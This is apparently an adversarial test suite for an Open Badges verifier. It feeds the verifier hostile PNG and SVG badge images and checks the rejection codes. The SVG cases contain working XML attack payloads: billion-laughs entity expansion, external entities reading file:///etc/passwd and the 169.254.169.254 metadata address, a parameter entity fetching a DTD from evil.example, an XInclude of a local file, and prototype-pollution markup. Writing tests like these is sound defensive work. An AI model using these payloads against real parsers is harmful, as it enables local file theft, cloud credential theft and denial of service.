// Hostile badge images: huge, lying, doubled and compressed PNG chunks; SVGs with entities, DTDs,
// duplicated (in one element, under two prefixes, nested) or missing credentials, and markup built to
// make the XML parser crawl.
import { extractFromPng, extractFromSvg, Verifier } from '@tessera/verifier'
import * as assert from 'uvu/assert'
import { b64, type Case, codeOf, expectFailure, family } from './harness.js'

const verifier = new Verifier({ offline: true })
const verify = (input: string | Uint8Array) =>
  verifier.verifyCredential(input, { now: new Date('2026-06-01') })

const SIGNATURE = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]

/** One PNG chunk: length, type, data and a CRC (never checked by the extractor, so left zero). */
function chunk(type: string, data: Uint8Array, length = data.length): Uint8Array {
  const out = new Uint8Array(12 + data.length)
  new DataView(out.buffer).setUint32(0, length)
  out.set(Buffer.from(type, 'latin1'), 4)
  out.set(data, 8)
  return out
}

/** An openbadgecredential iTXt chunk: keyword, NUL, compression flag and method, language, NUL, translated keyword, NUL, text. */
function itxt(text: string | Uint8Array, compressed = 0): Uint8Array {
  const body = typeof text === 'string' ? Buffer.from(text, 'utf8') : text
  return chunk(
    'iTXt',
    Buffer.concat([Buffer.from('openbadgecredential\0', 'latin1'), Buffer.from([compressed, 0, 0, 0]), body]),
  )
}

const IHDR = chunk('IHDR', new Uint8Array(13))
const IEND = chunk('IEND', new Uint8Array(0))
const png = (...chunks: Uint8Array[]) => Buffer.concat([Uint8Array.from(SIGNATURE), IHDR, ...chunks, IEND])

const JWT_NONE = `${b64({ alg: 'none' })}.${b64({ iss: 'did:example:x' })}.`
const NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"'
const svg = (inner: string, prelude = '') => `<?xml version="1.0"?>${prelude}<svg ${NS}>${inner}</svg>`
const CREDENTIAL = `<openbadges:credential verify="${JWT_NONE}"/>`

const pngCase = (name: string, make: () => Uint8Array, code: string): Case => ({
  name,
  run: async () => {
    expectFailure(await verify(make()), 'parse', code)
  },
})
const svgCase = (name: string, make: () => string, code: string): Case => ({
  name,
  run: async () => {
    expectFailure(await verify(make()), 'parse', code)
    assert.is(await codeOf(() => extractFromSvg(make())), code)
  },
})

const cases: Case[] = [
  {
    name: 'a 100 MB PNG (zero-filled lazily: only its first page is ever touched)',
    run: async () => {
      const huge = new Uint8Array(100 * 1000 * 1000)
      huge.set(SIGNATURE)
      expectFailure(await verify(huge), 'parse', 'INPUT_TOO_LARGE')
    },
  },
  pngCase(
    'a PNG with two credential chunks',
    () => png(itxt(JWT_NONE), itxt(JWT_NONE)),
    'BAKED_CREDENTIAL_DUPLICATED',
  ),
  pngCase(
    'a PNG with two different credentials, JSON and JWT',
    () => png(itxt('{"@context":[]}'), chunk('IDAT', new Uint8Array(8)), itxt(JWT_NONE)),
    'BAKED_CREDENTIAL_DUPLICATED',
  ),
  pngCase(
    'a chunk claiming bytes past the end',
    () => png(chunk('iTXt', new Uint8Array(4), 4096)),
    'MALFORMED_IMAGE',
  ),
  pngCase(
    'a chunk claiming 4 GiB',
    () => png(chunk('tEXt', new Uint8Array(4), 0xffffffff)),
    'MALFORMED_IMAGE',
  ),
  pngCase('a compressed credential chunk', () => png(itxt('x', 1)), 'MALFORMED_IMAGE'),
  pngCase(
    'a PNG with the credential in an iTXt chunk and another in a tEXt chunk',
    () => png(itxt(JWT_NONE), chunk('tEXt', Buffer.from(`openbadgecredential\0{"@context":[]}`, 'latin1'))),
    'BAKED_CREDENTIAL_DUPLICATED',
  ),
  pngCase(
    'a PNG with the credential in a zTXt chunk only',
    () => png(chunk('zTXt', Buffer.from('openbadgecredential\0\0xyz', 'latin1'))),
    'MALFORMED_IMAGE',
  ),

  pngCase(
    'a credential chunk that is not UTF-8',
    () => png(itxt(Uint8Array.from([0xc0, 0xaf, 0xff]))),
    'MALFORMED_IMAGE',
  ),
  pngCase(
    'a truncated credential chunk',
    () => png(chunk('iTXt', Buffer.from('openbadgecredential\0\0', 'latin1'))),
    'MALFORMED_IMAGE',
  ),
  pngCase('the PNG signature and nothing else', () => Uint8Array.from(SIGNATURE), 'BAKED_CREDENTIAL_MISSING'),
  pngCase(
    'the credential hidden after IEND',
    () => Buffer.concat([png(), itxt(JWT_NONE)]),
    'BAKED_CREDENTIAL_MISSING',
  ),
  pngCase(
    'a credential chunk under another keyword',
    () => png(chunk('iTXt', Buffer.from(`openbadges\0\0\0\0\0${JWT_NONE}`, 'latin1'))),
    'BAKED_CREDENTIAL_MISSING',
  ),
  {
    name: 'a PNG baked with an unsigned JWT',
    run: async () => {
      assert.is(extractFromPng(png(itxt(JWT_NONE))), JWT_NONE)
      expectFailure(await verify(png(itxt(JWT_NONE))), 'proof', 'ALG_NONE')
    },
  },
  pngCase(
    'a PNG baked with 10,000-deep JSON',
    () => png(itxt(`${'['.repeat(10_000)}${']'.repeat(10_000)}`)),
    'JSON_TOO_DEEP',
  ),
  pngCase(
    'a 16 MiB PNG of 1.4 million empty chunks',
    () => {
      const bytes = new Uint8Array(16 * 1024 * 1024 - 64)
      bytes.set(SIGNATURE)
      return bytes
    },
    'BAKED_CREDENTIAL_MISSING',
  ),
  svgCase(
    'SVG entity expansion (billion laughs)',
    () =>
      svg(
        '<openbadges:credential>&lol9;</openbadges:credential>',
        `<!DOCTYPE svg [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('')}]>`,
      ),
    'SVG_DOCTYPE_NOT_ALLOWED',
  ),
  svgCase(
    'SVG external entity (file:///etc/passwd)',
    () =>
      svg(
        '<openbadges:credential>&xxe;</openbadges:credential>',
        '<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
      ),
    'SVG_DOCTYPE_NOT_ALLOWED',
  ),
  svgCase(
    'SVG external entity at the metadata address',
    () =>
      svg(
        '<openbadges:credential>&xxe;</openbadges:credential>',
        '<!DOCTYPE svg [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>',
      ),
    'SVG_DOCTYPE_NOT_ALLOWED',
  ),
  svgCase(
    'SVG parameter entity',
    () => svg(CREDENTIAL, '<!DOCTYPE svg [<!ENTITY % remote SYSTEM "https://evil.example/x.dtd"> %remote;]>'),
    'SVG_DOCTYPE_NOT_ALLOWED',
  ),
  svgCase(
    'SVG entity declared in lower case',
    () => svg(CREDENTIAL, '<!DOCTYPE svg [<!entity a "b">]>'),
    'SVG_DOCTYPE_NOT_ALLOWED',
  ),
  svgCase(
    'SVG internal DTD subset with default attributes',
    () => svg(CREDENTIAL, '<!DOCTYPE svg [<!ATTLIST openbadges:credential verify CDATA "x.y.z">]>'),
    'SVG_DOCTYPE_NOT_ALLOWED',
  ),
  svgCase(
    "SVG internal subset behind a quoted '>'",
    () => svg(CREDENTIAL, '<!DOCTYPE svg PUBLIC "x>" "y" [<!ATTLIST svg a CDATA "b">]>'),
    'MALFORMED_IMAGE',
  ),
  svgCase(
    'SVG with two credential elements',
    () => svg(CREDENTIAL + CREDENTIAL),
    'BAKED_CREDENTIAL_DUPLICATED',
  ),
  svgCase(
    'SVG whose credential element holds a JWT in verify="" and another credential as text',
    () => svg(`<openbadges:credential verify="${JWT_NONE}">{"@context":[]}</openbadges:credential>`),
    'BAKED_CREDENTIAL_DUPLICATED',
  ),
  svgCase(
    'SVG whose credential element holds a JWT in verify="" and another in CDATA',
    () => svg(`<openbadges:credential verify="${JWT_NONE}"><![CDATA[${JWT_NONE}]]></openbadges:credential>`),
    'BAKED_CREDENTIAL_DUPLICATED',
  ),
  svgCase(
    'SVG with a second credential under another prefix bound to the namespace',
    () =>
      svg(`${CREDENTIAL}<ob:credential xmlns:ob="https://purl.imsglobal.org/ob/v3p0" verify="${JWT_NONE}"/>`),
    'BAKED_CREDENTIAL_DUPLICATED',
  ),
  svgCase(
    'SVG with a second credential in the default namespace',
    () => svg(`${CREDENTIAL}<credential xmlns="https://purl.imsglobal.org/ob/v3p0" verify="${JWT_NONE}"/>`),
    'BAKED_CREDENTIAL_DUPLICATED',
  ),
  svgCase(
    'SVG with a second credential nested in a group',
    () => svg(`${CREDENTIAL}<g><metadata>${CREDENTIAL}</metadata></g>`),
    'BAKED_CREDENTIAL_DUPLICATED',
  ),
  svgCase(
    'SVG binding the namespace through character references',
    () =>
      `<svg ${NS} xmlns:ob="https&#58;&#x2F;/purl.imsglobal.org/ob/v3p0">${CREDENTIAL}<ob:credential verify="${JWT_NONE}"/></svg>`,
    'BAKED_CREDENTIAL_DUPLICATED',
  ),
  svgCase(
    'SVG binding a namespace with an undeclared entity',
    () => `<svg ${NS} xmlns:ob="&ob;">${CREDENTIAL}</svg>`,
    'MALFORMED_IMAGE',
  ),
  svgCase(
    'SVG whose only credential is nested in a group',
    () => svg(`<g>${CREDENTIAL}</g>`),
    'BAKED_CREDENTIAL_MISSING',
  ),
  {
    name: 'SVG whose prefix is rebound elsewhere on the credential element: that one is not a credential',
    run: () => {
      const text = svg(
        `<openbadges:credential xmlns:openbadges="https://evil.example/ob" verify="x.y.z"/>${CREDENTIAL}`,
      )
      assert.is(extractFromSvg(text), JWT_NONE)
    },
  },
  svgCase(
    'SVG with the credential in another namespace',
    () =>
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://evil.example/ob"><openbadges:credential verify="${JWT_NONE}"/></svg>`,
    'BAKED_CREDENTIAL_MISSING',
  ),
  svgCase(
    'SVG with an empty credential element',
    () => svg('<openbadges:credential></openbadges:credential>'),
    'BAKED_CREDENTIAL_MISSING',
  ),
  svgCase(
    'SVG whose credential is an XInclude of a local file',
    () =>
      svg(
        '<openbadges:credential><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/></openbadges:credential>',
      ),
    'BAKED_CREDENTIAL_MISSING',
  ),
  svgCase(
    'SVG nested 100,000 deep',
    () => svg(`${'<g>'.repeat(100_000)}${'</g>'.repeat(100_000)}${CREDENTIAL}`),
    'SVG_TOO_COMPLEX',
  ),
  svgCase(
    'SVG nested 1,000 deep',
    () => svg(`${'<g>'.repeat(1_000)}${'</g>'.repeat(1_000)}${CREDENTIAL}`),
    'MALFORMED_IMAGE',
  ),
  svgCase('SVG of 16 MiB of tiny tags', () => svg('<g a="1" b="2"/>'.repeat(1_000_000)), 'SVG_TOO_COMPLEX'),
  svgCase(
    'SVG with 100,000 attributes on one element',
    () =>
      `<svg ${NS} ${Array.from({ length: 100_000 }, (_, i) => `a${i}="x"`).join(' ')}>${CREDENTIAL}</svg>`,
    'SVG_TOO_COMPLEX',
  ),
  svgCase(
    'SVG with a __proto__ element',
    () => svg(`<__proto__><polluted>1</polluted></__proto__>${CREDENTIAL}`),
    'MALFORMED_IMAGE',
  ),
  svgCase('SVG that is not well-formed', () => svg(`<g>${CREDENTIAL}`), 'MALFORMED_IMAGE'),
  {
    name: 'SVG baked with an unsigned JWT',
    run: async () => {
      assert.is(extractFromSvg(svg(CREDENTIAL)), JWT_NONE)
      expectFailure(await verify(svg(CREDENTIAL)), 'proof', 'ALG_NONE')
    },
  },
]

family('adversarial: baked images', cases)
